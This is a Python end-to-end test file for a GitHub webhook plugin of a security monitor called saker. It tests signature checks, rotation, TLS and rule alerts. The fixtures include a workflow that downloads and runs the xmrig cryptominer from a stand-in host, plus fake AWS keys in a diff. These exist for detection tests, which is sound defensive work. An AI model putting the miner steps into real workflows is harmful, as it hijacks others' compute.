#!/usr/bin/env python3
"""End-to-end tests of the github plugin through the real saker binary:
rules validation, the SOURCES.md detections for the signed fixtures, every
refusal (401/400/404/405/413/415) with no event, delivery-id de-duplication,
secret rotation, form bodies, pings, saker's own GitHub rules (each with a
near miss), and, against a local fake GitHub REST API: hook creation and
removal, secret scanning of push diffs (masked) and miner detection.

Synchronisation: deliveries go through one FIFO queue, so after a batch the
test posts a sentinel delivery and waits for its alert; every earlier
delivery has then been through the rules."""
import hashlib
import hmac
import http.client
import json
import os
import ssl
import subprocess
import sys
import tempfile
import threading
import time
import urllib.parse

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, "..", "lib"))
import sktest  # noqa: E402
from fake_github import FakeGitHub  # noqa: E402

SAKER = os.environ.get("SAKER_BIN", "")
PLUGIN = os.environ.get("GH_PLUGIN", "")
SRC = os.environ.get("SAKER_SOURCE_DIR", os.path.join(HERE, "..", ".."))
UPSTREAM = os.environ.get("SAKER_UPSTREAM") or os.environ.get("SAKER_UPSTREAM_DEFAULT", "")
UP_RULES = os.path.join(UPSTREAM, "rules", "github.yaml")
FIXTURES = os.path.join(UPSTREAM, "fixtures", "github")
OWN_RULES = os.path.join(SRC, "rules", "github", "saker_github_rules.yaml")

SECRET = "e2e-webhook-secret-8f2c"
AWS_KEY = "AKIAZ7EXAMPLEQ4R2T6Y"
AWS_SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYz9Q2w8ExAm"
TOKEN = "ghp_faketokenforthee2etest00000000000000"

class Checker(sktest.Checker):
    def check(self, name, cond, detail=""):
        super().check(name, cond, detail)
        return cond


C = Checker(detail_max=600)

SENTINEL_RULES = """
- rule: E2E Sentinel
  desc: marks the end of a batch of deliveries
  condition: github.type = e2e_sentinel
  output: e2e sentinel %github.value[/n]
  priority: EMERGENCY
  source: github
"""


def sign(body, secret=SECRET):
    return "sha256=" + hmac.new(secret.encode(), body, hashlib.sha256).hexdigest()


class Saker:
    """saker with the github plugin on a free port; alerts collected live."""

    def __init__(self, tmp, name, init, rules, extra_args=(), env=None, web=False,
                 scheme="http"):
        self.name = name
        self.port = sktest.free_port()
        self.web_port = sktest.free_port() if web else None
        self.cfg = os.path.join(tmp, name + ".yaml")
        webcfg = {"enabled": False}
        if web:
            webcfg = {"enabled": True, "listen_address": "127.0.0.1",
                      "listen_port": self.web_port, "prometheus_metrics_enabled": True}
        with open(self.cfg, "w") as f:
            json.dump({"plugins": [{"name": "github", "library_path": PLUGIN, "init_config": init,
                                    "open_params": "%s://127.0.0.1:%d/github" % (scheme,
                                                                                self.port)}],
                       "load_plugins": ["github"], "rules_files": [], "json_output": True,
                       "webserver": webcfg, "metrics": {"enabled": True}}, f)
        srules = os.path.join(tmp, "sentinel.yaml")
        with open(srules, "w") as f:
            f.write(SENTINEL_RULES)
        args = [SAKER, "-c", self.cfg]
        for r in list(rules) + [srules]:
            args += ["-r", r]
        args += list(extra_args)
        self.proc = subprocess.Popen(args, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                     text=True, env=env)
        self.lines, self.alerts, self.err = [], [], []
        self.cv = threading.Condition()
        self.n = 0
        threading.Thread(target=self._read_out, daemon=True).start()
        threading.Thread(target=lambda: self.err.append(self.proc.stderr.read()),
                         daemon=True).start()

    def _read_out(self):
        for line in self.proc.stdout:
            with self.cv:
                self.lines.append(line)
                if line.startswith("{"):
                    try:
                        self.alerts.append(json.loads(line))
                    except ValueError:
                        pass
                self.cv.notify_all()

    def ready(self):
        return sktest.wait_port(self.port, 60)

    def sync(self, timeout=60):
        """True once every delivery posted so far went through the rules."""
        self.n += 1
        tag = "e2e sentinel %d" % self.n
        st = deliver(self.port, "e2e_sentinel", json.dumps({"n": self.n}).encode(),
                     delivery="sentinel-%d" % self.n)
        if st != 200:
            return False
        end = time.time() + timeout
        with self.cv:
            while not any(a.get("output", "").rstrip().endswith(tag) for a in self.alerts):
                if time.time() > end or self.proc.poll() is not None:
                    return False
                self.cv.wait(0.5)
        return True

    def metrics(self):
        """{metric line prefix: value} of saker's /metrics for github.* plugin metrics."""
        conn = http.client.HTTPConnection("127.0.0.1", self.web_port, timeout=30)
        conn.request("GET", "/metrics")
        text = conn.getresponse().read().decode()
        conn.close()
        return text

    def rules(self):
        with self.cv:
            return [a["rule"] for a in self.alerts if a.get("rule") != "E2E Sentinel"]

    def real_alerts(self):
        with self.cv:
            return [a for a in self.alerts if a.get("rule") != "E2E Sentinel"]

    def stop(self, expect_ok=True):
        rc = sktest.terminate(self.proc, 60) if self.proc.poll() is None else self.proc.returncode
        end = time.time() + 30
        while not self.err and time.time() < end:
            time.sleep(0.05)
        self.stderr = "".join(self.err)
        self.stdout = "".join(self.lines)
        bad = "AddressSanitizer" in self.stderr or "runtime error:" in self.stderr or \
            "LeakSanitizer" in self.stderr
        if expect_ok:
            C.check("saker (%s) exits cleanly" % self.name, rc == 0 and not bad,
                    (rc, self.stderr[-800:]))
        else:
            C.check("saker (%s): no sanitizer report" % self.name, not bad, self.stderr[-800:])
        return rc


def deliver(port, event, body, secret=SECRET, delivery=None, ctype="application/json",
            sig="auto", method="POST", path="/github", tls=None):
    """One delivery; returns the HTTP status (or an error string)."""
    headers = {"User-Agent": "GitHub-Hookshot/e2e"}
    if ctype:
        headers["Content-Type"] = ctype
    if event:
        headers["X-GitHub-Event"] = event
    if delivery:
        headers["X-GitHub-Delivery"] = delivery
    if sig == "auto" and body is not None:
        sig = sign(body, secret)
    if sig and sig != "auto":
        headers["X-Hub-Signature-256"] = sig
    conn = (http.client.HTTPSConnection("127.0.0.1", port, timeout=60, context=tls) if tls
            else http.client.HTTPConnection("127.0.0.1", port, timeout=60))
    try:
        conn.request(method, path, body=body, headers=headers)
        r = conn.getresponse()
        r.read()
        return r.status
    except (OSError, http.client.HTTPException) as e:
        return "error: %s" % e
    finally:
        conn.close()


def fixture(name):
    with open(os.path.join(FIXTURES, name), "rb") as f:
        return f.read()


def counts(rules):
    c = {}
    for r in rules:
        c[r] = c.get(r, 0) + 1
    return c


def test_validate(tmp):
    cfg = os.path.join(tmp, "validate.yaml")
    with open(cfg, "w") as f:
        json.dump({"plugins": [{"name": "github", "library_path": PLUGIN,
                                "init_config": {"secret": SECRET}, "open_params": ""}],
                   "load_plugins": ["github"], "rules_files": []}, f)
    for files in ([UP_RULES], [OWN_RULES], [UP_RULES, OWN_RULES]):
        args = [SAKER, "-c", cfg]
        for x in files:
            args += ["-V", x]
        p = subprocess.run(args, capture_output=True, text=True, timeout=120)
        out = p.stdout + p.stderr
        names = [os.path.basename(x) for x in files]
        C.check("validate %s: exit 0" % names, p.returncode == 0, out[-500:])
        C.check("validate %s: 0 errors" % names, "error" not in out.lower(), out[-500:])
        for x in names:
            C.check("validate %s: %s Ok" % (names, x), "%s: Ok" % x in out, out[-500:])
    s = Saker(tmp, "nosecret", {}, [UP_RULES])
    rc = s.proc.wait(timeout=120)
    s.stop(expect_ok=False)
    C.check("no secret configured: saker exits non-zero and says why",
            rc != 0 and "no webhook secret configured" in s.stderr, (rc, s.stderr[-300:]))


def test_fixtures_and_refusals(tmp):
    s = Saker(tmp, "fixtures", {"secret": SECRET}, [UP_RULES], web=True)
    try:
        if not C.check("receiver up", s.ready(), "port %d" % s.port):
            return
        pub = fixture("repository_publicized.payload.json")
        key = fixture("deploy_key_created.payload.json")
        C.check("publicized fixture -> 200",
                deliver(s.port, "repository", pub, delivery="fx-1") == 200)
        C.check("deploy_key fixture -> 200",
                deliver(s.port, "deploy_key", key, delivery="fx-2") == 200)
        C.check("sync 1", s.sync())
        got = s.real_alerts()
        C.check("fixtures give the SOURCES.md alerts",
                counts(s.rules()) == {"Private Repository Becoming Public": 1,
                                      "Create Deploy Key": 1}, counts(s.rules()))
        prio = {a["rule"]: a["priority"] for a in got}
        C.check("priorities CRITICAL / INFO",
                prio.get("Private Repository Becoming Public") == "Critical" and
                prio.get("Create Deploy Key") == "Informational", prio)
        for a in got:
            C.check("%s: source github, repo name" % a["rule"], a.get("source") == "github" and
                    a.get("output_fields", {}).get("github.repo.name") == "Codertocat/Hello-World",
                    a)
        # refusals: nothing of these may become an event
        C.check("bad signature -> 401", deliver(s.port, "repository", pub, delivery="r-1",
                                                sig="sha256=" + "ab" * 32) == 401)
        C.check("no signature -> 401", deliver(s.port, "repository", pub, delivery="r-2",
                                               sig=None) == 401)
        C.check("other secret -> 401", deliver(s.port, "repository", pub, delivery="r-3",
                                               secret="not-the-secret") == 401)
        C.check("sha1 signature only -> 401", deliver(s.port, "repository", pub, delivery="r-4",
                                                      sig="sha1=" + "ab" * 20) == 401)
        C.check("body changed after signing -> 401",
                deliver(s.port, "repository", pub + b" ", delivery="r-5", sig=sign(pub)) == 401)
        C.check("garbage (signed) -> 400", deliver(s.port, "repository", b"\x00garbage{",
                                                   delivery="r-6") == 400)
        C.check("JSON array (signed) -> 400", deliver(s.port, "repository", b"[1,2]",
                                                      delivery="r-7") == 400)
        C.check("no X-GitHub-Event -> 400", deliver(s.port, None, pub, delivery="r-8") == 400)
        C.check("wrong content type -> 415", deliver(s.port, "repository", pub, delivery="r-9",
                                                     ctype="text/plain") == 415)
        C.check("GET -> 405", deliver(s.port, None, None, method="GET", ctype=None) == 405)
        C.check("other path -> 404", deliver(s.port, "repository", pub, path="/other") == 404)
        signed_push = "X-GitHub-Event: push\r\nX-Hub-Signature-256: sha256=%s\r\n" % ("0" * 64)
        C.check("30 MB body -> 413",
                sktest.post_large(s.port, "/github", 30 * 1024 * 1024, signed_push) == 413)
        C.check("ping -> 200", deliver(s.port, "ping", b'{"zen":"Keep it logically awesome.",'
                                       b'"hook_id":1,"hook":{"id":1,"type":"Repository"}}',
                                       delivery="p-1") == 200)
        # de-duplication, then form bodies, then the receiver still serves
        C.check("delivery d-1 -> 200", deliver(s.port, "repository", pub, delivery="d-1") == 200)
        C.check("delivery d-1 again -> 200", deliver(s.port, "repository", pub,
                                                     delivery="d-1") == 200)
        form = b"payload=" + urllib.parse.quote_plus(key.decode()).encode()
        C.check("form delivery -> 200", deliver(s.port, "deploy_key", form, delivery="f-1",
                                                ctype="application/x-www-form-urlencoded") == 200)
        C.check("form without payload= -> 400",
                deliver(s.port, "deploy_key", b"other=1", delivery="f-2",
                        ctype="application/x-www-form-urlencoded") == 400)
        C.check("sync 2", s.sync())
        C.check("only d-1 once and the form delivery alerted after the refusals",
                counts(s.rules()) == {"Private Repository Becoming Public": 2,
                                      "Create Deploy Key": 2}, counts(s.rules()))
        want = {"github_webhook_rejected_bad_signature": 4, "github_webhook_rejected_unsigned": 1,
                "github_webhook_rejected_malformed": 4, "github_webhook_pings": 1,
                "github_webhook_duplicates": 1, "github_webhook_accepted": 6,
                "github_events_emitted": 6, "github_http_rejected_method": 1,
                "github_http_rejected_content_type": 1, "github_http_rejected_not_found": 1,
                "github_http_rejected_too_large": 1}
        got = {}

        def metrics_match():
            for line in s.metrics().splitlines():
                if line.startswith("saker_plugin_github_"):
                    name = line.split("{")[0][len("saker_plugin_"):]
                    got[name] = int(float(line.split()[-1]))
            return all(got.get(k) == v for k, v in want.items())
        C.check("every outcome counted in /metrics (plugin metrics refresh every 5 s)",
                wait_for(metrics_match, 60), {k: got.get(k) for k in want})
    finally:
        s.stop()
    C.check("webhook secret never in saker's output", SECRET not in s.stdout + s.stderr)


def test_rotation(tmp):
    sf = os.path.join(tmp, "secrets.txt")
    with open(sf, "w") as f:
        f.write("# rotated in on Monday\nnew-secret-2\n")
    s = Saker(tmp, "rotation", {"secrets": ["old-secret-1"], "secret_file": sf}, [UP_RULES])
    pub = fixture("repository_publicized.payload.json")
    try:
        if not C.check("rotation receiver up", s.ready()):
            return
        C.check("old secret accepted", deliver(s.port, "repository", pub, secret="old-secret-1",
                                               delivery="rot-1") == 200)
        C.check("new secret accepted", deliver(s.port, "repository", pub, secret="new-secret-2",
                                               delivery="rot-2") == 200)
        C.check("third secret refused", deliver(s.port, "repository", pub, secret="other",
                                                delivery="rot-3") == 401)
        # the sentinel is signed with SECRET, which this instance does not know
        s.n += 1
        body = json.dumps({"n": s.n}).encode()
        C.check("sentinel (new secret)", deliver(s.port, "e2e_sentinel", body,
                                                 secret="new-secret-2", delivery="rs") == 200)
        end = time.time() + 60
        while time.time() < end and "E2E Sentinel" not in [a["rule"] for a in s.alerts]:
            with s.cv:
                s.cv.wait(0.5)
        C.check("rotation: both secrets give an alert",
                counts(s.rules()) == {"Private Repository Becoming Public": 2}, counts(s.rules()))
    finally:
        s.stop()


def test_tls(tmp):
    """https:// with sslCertificate/sslKey: a signed delivery over TLS alerts."""
    crt, key = os.path.join(tmp, "srv.crt"), os.path.join(tmp, "srv.key")
    p = subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout",
                        key, "-out", crt, "-days", "2", "-subj", "/CN=127.0.0.1",
                        "-addext", "subjectAltName=IP:127.0.0.1"], capture_output=True, text=True)
    if not C.check("test certificate created", p.returncode == 0, p.stderr[-300:]):
        return
    s = Saker(tmp, "tls", {"secret": SECRET, "sslCertificate": crt, "sslKey": key}, [UP_RULES],
              scheme="https")
    ctx = ssl.create_default_context(cafile=crt)
    try:
        if not C.check("https receiver up", s.ready()):
            return
        body = fixture("repository_publicized.payload.json")
        C.check("signed delivery over TLS -> 200",
                deliver(s.port, "repository", body, delivery="tls-1", tls=ctx) == 200)
        C.check("plain HTTP to the TLS port is not served",
                deliver(s.port, "repository", body, delivery="tls-2") != 200)
        n = len(s.alerts)
        s.n += 1
        sb = json.dumps({"n": s.n}).encode()
        C.check("sentinel over TLS", deliver(s.port, "e2e_sentinel", sb, delivery="tls-s",
                                             tls=ctx) == 200)
        C.check("TLS delivery alerted", wait_for(lambda: len(s.alerts) >= n + 1 and
                                                 "E2E Sentinel" in [a["rule"] for a in s.alerts])
                and counts(s.rules()) == {"Private Repository Becoming Public": 1},
                counts(s.rules()))
    finally:
        s.stop()


def own_cases():
    repo = {"full_name": "acme/app", "html_url": "https://github.com/acme/app", "private": True,
            "owner": {"login": "acme"}}
    org = {"login": "acme"}
    snd = {"login": "mallory"}

    def p(**kw):
        d = {"repository": repo, "organization": org, "sender": snd}
        d.update(kw)
        return d
    bp = {"name": "main", "admin_enforced": True, "required_approving_review_count": 1,
          "allow_force_pushes_enforcement_level": "off",
          "pull_request_reviews_enforcement_level": "everyone"}
    return [
        ("repository", p(action="publicized"), "GitHub Repository Made Public"),
        ("repository", p(action="privatized"), None),
        ("branch_protection_rule", p(action="deleted", rule=bp), "GitHub Branch Protection Removed"),
        ("branch_protection_rule", p(action="created", rule=bp), None),
        ("branch_protection_rule", p(action="edited", rule=dict(bp, admin_enforced=False),
                                     changes={"admin_enforced": {"from": True}}),
         "GitHub Branch Protection Weakened"),
        ("branch_protection_rule", p(action="edited", rule=dict(
            bp, allow_force_pushes_enforcement_level="everyone"),
            changes={"allow_force_pushes_enforcement_level": {"from": "off"}}),
         "GitHub Branch Protection Weakened"),
        ("branch_protection_rule", p(action="edited", rule=dict(
            bp, required_approving_review_count=0),
            changes={"required_approving_review_count": {"from": 2}}),
         "GitHub Branch Protection Weakened"),
        ("branch_protection_rule", p(action="edited", rule=dict(
            bp, required_approving_review_count=2),
            changes={"required_approving_review_count": {"from": 1}}), None),
        ("deploy_key", p(action="created", key={"id": 7, "title": "ci", "read_only": False}),
         "GitHub Deploy Key Added"),
        ("deploy_key", p(action="deleted", key={"id": 7, "title": "ci", "read_only": False}), None),
        ("member", p(action="added", member={"login": "eve"},
                     changes={"permission": {"to": "admin"}}), "GitHub Admin Collaborator Added"),
        ("member", p(action="edited", member={"login": "eve"},
                     changes={"permission": {"from": "write", "to": "admin"}}),
         "GitHub Admin Collaborator Added"),
        ("member", p(action="added", member={"login": "bob"},
                     changes={"permission": {"to": "write"}}), "GitHub Collaborator Added"),
        ("member", p(action="removed", member={"login": "bob"}), None),
        ("organization", {"action": "member_added", "organization": org, "sender": snd,
                          "membership": {"role": "admin", "state": "active",
                                         "user": {"login": "eve"}}},
         "GitHub Organization Owner Added"),
        ("organization", {"action": "member_invited", "organization": org, "sender": snd,
                          "invitation": {"login": "eve", "role": "admin"}},
         "GitHub Organization Owner Added"),
        ("organization", {"action": "member_added", "organization": org, "sender": snd,
                          "membership": {"role": "member", "state": "active",
                                         "user": {"login": "bob"}}}, None),
        ("meta", {"action": "deleted", "hook_id": 42, "hook": {"id": 42, "type": "Repository",
                                                               "config": {"url": "https://x"}},
                  "repository": repo, "sender": snd}, "GitHub Webhook Changed"),
        ("ping", {"zen": "z", "hook_id": 43, "hook": {"id": 43, "type": "Repository"}}, None),
        ("push", p(ref="refs/heads/main", before="0" * 40, after="a" * 40, commits=[]), None),
    ]


def test_own_rules(tmp):
    s = Saker(tmp, "own", {"secret": SECRET}, [OWN_RULES])
    want = []
    try:
        if not C.check("own rules receiver up", s.ready()):
            return
        for i, (ev, body, rule) in enumerate(own_cases()):
            st = deliver(s.port, ev, json.dumps(body).encode(), delivery="own-%d" % i)
            C.check("own case %d (%s %s) -> 200" % (i, ev, body.get("action")), st == 200, st)
            if rule:
                want.append(rule)
        C.check("own rules sync", s.sync())
        C.check("each saker rule fires once per scenario, none on the near misses",
                s.rules() == want, {"got": s.rules(), "want": want})
        for a in s.real_alerts():
            if a["rule"] == "GitHub Admin Collaborator Added":
                C.check("admin alert names the collaborator",
                        a["output_fields"].get("github.collaborator.name") == "eve", a)
    finally:
        s.stop()


DIFF_SECRET = {"files": [
    {"filename": "deploy/prod.env", "status": "modified",
     "patch": "@@ -3,3 +3,5 @@ REGION=eu-west-1\n LOG=info\n-AWS_ACCESS_KEY_ID=\n"
              "+AWS_ACCESS_KEY_ID=" + AWS_KEY + "\n+aws_secret_access_key = \"" + AWS_SECRET +
              "\"\n+TIMEOUT=30\n"},
    {"filename": "README.md", "status": "modified", "patch": "@@ -1 +1 @@\n-old\n+new\n"}]}
DIFF_CLEAN = {"files": [{"filename": "src/app.py", "status": "modified",
                         "patch": "@@ -1,2 +1,2 @@\n-x = 1\n+x = 2\n"}]}
MINER_WF = ("name: build\non: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n"
            "      - run: curl -sL https://example.invalid/xmrig.tgz | tar xz\n"
            "      - run: ./xmrig -o stratum+tcp://pool.example:3333 -u wallet\n")
CLEAN_WF = ("name: build\non: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n"
            "      - run: make -j4 threadpool_test spool\n")


def push_body(before, after, private=True):
    return {"ref": "refs/heads/main", "before": before, "after": after,
            "repository": {"full_name": "acme/app", "html_url": "https://github.com/acme/app",
                           "private": private, "owner": {"login": "acme"}},
            "organization": {"login": "acme"}, "sender": {"login": "dev1"},
            "head_commit": {"id": after}, "commits": [{"id": after, "added": [],
                                                       "modified": ["deploy/prod.env"],
                                                       "removed": []}]}


def wf_body(sha, path):
    return {"action": "requested", "workflow": {"path": path, "name": "build"},
            "workflow_run": {"head_sha": sha, "path": path},
            "repository": {"full_name": "acme/app", "html_url": "https://github.com/acme/app",
                           "private": False, "owner": {"login": "acme"}},
            "organization": {"login": "acme"}, "sender": {"login": "dev2"}}


def wait_for(cond, timeout=60):
    end = time.time() + timeout
    while time.time() < end:
        if cond():
            return True
        time.sleep(0.05)
    return False


def test_api(tmp):
    b1, a1, b2, a2 = "1" * 40, "2" * 40, "3" * 40, "4" * 40
    fake = FakeGitHub(TOKEN, diffs={"acme/app/%s...%s" % (b1, a1): DIFF_SECRET,
                                    "acme/app/%s...%s" % (b2, a2): DIFF_CLEAN},
                      contents={"acme/app/.github/workflows/mine.yml@" + "5" * 40: MINER_WF,
                                "acme/app/.github/workflows/ci.yml@" + "6" * 40: CLEAN_WF})
    public = "https://saker.example.com/github"
    # a stale hook of a previous run: replaced, not duplicated
    fake.hooks["acme/app"] = [{"id": 7, "config": {"url": public}}]
    env = dict(os.environ, GITHUB_PLUGIN_TOKEN=TOKEN)
    init = {"secret": SECRET, "api_url": fake.url + "/", "repos": ["acme/app", "acme/lib"],
            "public_url": public, "scan_secrets": True, "scan_workflows": True}
    s = Saker(tmp, "api", init, [UP_RULES, OWN_RULES], ["-o", "rule_matching=all"], env=env)
    try:
        if not C.check("api receiver up", s.ready()):
            return
        C.check("hooks created on open", wait_for(
            lambda: len(fake.calls("POST", "/repos/")) == 2), fake.log)
        for repo in ("acme/app", "acme/lib"):
            hs = fake.hooks.get(repo, [])
            C.check("%s: one hook" % repo, len(hs) == 1, hs)
            cfg = hs[0]["config"] if hs else {}
            C.check("%s: hook posts JSON to public_url with the configured secret" % repo,
                    cfg.get("url") == public and cfg.get("secret") == SECRET and
                    cfg.get("content_type") == "json" and hs[0].get("events") == ["*"], hs)
        C.check("stale hook deleted", ("DELETE", "/repos/acme/app/hooks/7", None) in fake.log,
                fake.log)
        C.check("push with an AWS key -> 200", deliver(s.port, "push", json.dumps(
            push_body(b1, a1)).encode(), delivery="push-1") == 200)
        C.check("clean push -> 200", deliver(s.port, "push", json.dumps(
            push_body(b2, a2)).encode(), delivery="push-2") == 200)
        C.check("branch-creation push (no diff fetched) -> 200", deliver(s.port, "push", json.dumps(
            push_body("0" * 40, a2)).encode(), delivery="push-3") == 200)
        C.check("miner workflow_run -> 200", deliver(s.port, "workflow_run", json.dumps(
            wf_body("5" * 40, ".github/workflows/mine.yml")).encode(), delivery="wf-1") == 200)
        C.check("clean workflow_run -> 200", deliver(s.port, "workflow_run", json.dumps(
            wf_body("6" * 40, ".github/workflows/ci.yml")).encode(), delivery="wf-2") == 200)
        C.check("api sync", s.sync())
        got = counts(s.rules())
        C.check("secret pushed: upstream and saker rules fire once each",
                got.get("Secret pushed into a private repository") == 1 and
                got.get("GitHub Secret Pushed") == 1, got)
        C.check("miner workflow: upstream and saker rules fire once each",
                got.get("Github action with miners") == 1 and
                got.get("GitHub Workflow With Miner") == 1, got)
        C.check("nothing else fired (clean push and workflow are near misses)",
                sum(got.values()) == 4, got)
        for a in s.real_alerts():
            of = a.get("output_fields", {})
            if a["rule"] == "GitHub Secret Pushed":
                C.check("secret alert: kinds, file, lines",
                        of.get("github.diff.committed_secrets.desc") ==
                        "aws_access_key,aws_secret_key" and
                        of.get("github.diff.committed_secrets.files") ==
                        "deploy/prod.env,deploy/prod.env" and
                        of.get("github.diff.committed_secrets.lines") == "4,5", of)
                C.check("secret alert: key masked",
                        of.get("github.diff.committed_secrets.masked", "").startswith("AKIA****"),
                        of)
            if a["rule"] == "GitHub Workflow With Miner":
                C.check("miner alert: file and types",
                        of.get("github.workflow.filename") == ".github/workflows/mine.yml" and
                        of.get("github.workflow.miners.type") == "xmrig,stratum", of)
        C.check("compare fetched once per scanned push",
                len(fake.calls("GET", "/repos/acme/app/compare/")) == 2, fake.log)
    finally:
        s.stop()
    C.check("hooks removed on close", fake.hooks.get("acme/app") == [] and
            fake.hooks.get("acme/lib") == [], fake.hooks)
    out = s.stdout + s.stderr
    C.check("the AWS key never appears in saker's output", AWS_KEY not in out and
            AWS_KEY[4:] not in out)
    C.check("the AWS secret key never appears in saker's output", AWS_SECRET not in out)
    C.check("token and webhook secret never appear in saker's output",
            TOKEN not in out and SECRET not in out)
    fake.stop()


def test_api_all_repos(tmp):
    """repos "*": every non-archived repository the token administers; a
    token the API refuses makes open fail with the reason."""
    repos = [{"full_name": "acme/a", "archived": False, "permissions": {"admin": True}},
             {"full_name": "acme/old", "archived": True, "permissions": {"admin": True}},
             {"full_name": "acme/ro", "archived": False, "permissions": {"admin": False}}]
    fake = FakeGitHub(TOKEN, repos=repos)
    init = {"api_url": fake.url, "repos": "*", "public_url": "https://h.example/gh",
            "token": TOKEN, "scan_secrets": False, "scan_workflows": False}
    s = Saker(tmp, "all", init, [UP_RULES])
    try:
        C.check("'*' receiver up", s.ready())
        C.check("'*': one hook, on the administered active repository", wait_for(
            lambda: [c[1] for c in fake.calls("POST")] == ["/repos/acme/a/hooks"]), fake.log)
        hs = fake.hooks.get("acme/a", [])
        secret = hs[0]["config"].get("secret", "") if hs else ""
        C.check("'*': a generated secret (no secret configured)", len(secret) >= 32, hs)
        body = fixture("deploy_key_created.payload.json")
        C.check("delivery signed with the generated secret -> 200",
                deliver(s.port, "deploy_key", body, secret=secret, delivery="g-1") == 200)
    finally:
        s.stop()
    C.check("'*': hook removed on close", fake.hooks.get("acme/a") == [], fake.hooks)
    C.check("generated secret never logged", secret and secret not in s.stdout + s.stderr)
    init["token"] = "wrong-token"
    s = Saker(tmp, "badtoken", init, [UP_RULES])
    rc = s.proc.wait(timeout=120)
    s.stop(expect_ok=False)
    C.check("refused token: saker exits non-zero naming the API error",
            rc != 0 and "401" in s.stderr and "wrong-token" not in s.stdout + s.stderr,
            (rc, s.stderr[-400:]))
    fake.stop()


def main():
    if not SAKER or not os.path.exists(SAKER) or not PLUGIN or not os.path.exists(PLUGIN):
        print("SKIP: saker binary or github plugin not built (SAKER_BIN=%r GH_PLUGIN=%r)"
              % (SAKER, PLUGIN))
        sys.exit(77)
    if not os.path.exists(UP_RULES) or not os.path.isdir(FIXTURES):
        print("SKIP: upstream github rules/fixtures not found under %r (set SAKER_UPSTREAM)"
              % UPSTREAM)
        sys.exit(77)
    only = sys.argv[1:]
    with tempfile.TemporaryDirectory() as tmp:
        for t in (test_validate, test_fixtures_and_refusals, test_rotation, test_tls,
                  test_own_rules, test_api, test_api_all_repos):
            if not only or t.__name__ in only:
                print("== " + t.__name__, flush=True)
                t(tmp)
    C.finish()


if __name__ == "__main__":
    main()
